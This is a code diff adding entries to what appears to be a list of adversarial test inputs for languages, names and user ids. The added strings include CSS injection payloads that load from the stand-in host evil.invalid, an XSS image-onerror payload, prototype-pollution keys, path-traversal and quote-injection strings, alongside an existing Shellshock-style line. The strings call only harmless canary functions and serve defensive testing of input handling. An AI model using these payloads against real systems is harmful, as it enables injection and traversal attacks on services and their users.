@@ -124,6 +124,8 @@ const languages = [
   '%s %n %d %x {0} {name} {text} $& $1 \\0',
   '\\ud800 \\u0000 \\',
   '() { :; }; canary $(canary) `canary` | canary',
+  'color:red;position:fixed;inset:0 expression(canary()) -moz-binding:url(//evil.invalid/x) behavior:url(#x)',
+  '}*{display:none}:host{display:none} @import "//evil.invalid/x.css"; url(javascript:canary()) \\3c b\\3e --x:{}',
   'null undefined NaN Infinity -0 1e999 true [] {} ""',
 ];
 
@@ -147,6 +149,21 @@ export const NAMES = [
   '__proto__',
   code(0x3164),
   'אורגנייזר (Organizer)',
+];
+
+/** What may be in a user's id. */
+export const USERS = [
+  '<img src=x onerror=canary()>',
+  '__proto__',
+  'constructor',
+  '../../admin?x=1#y',
+  '%2e%2e%2f',
+  'a/b\\c',
+  '"\'`;--',
+  '*',
+  `${RLO}nimda`,
+  '字',
+  ' ',
 ];
 
 /** What may be in a reaction: 1–64 bytes without white space. */
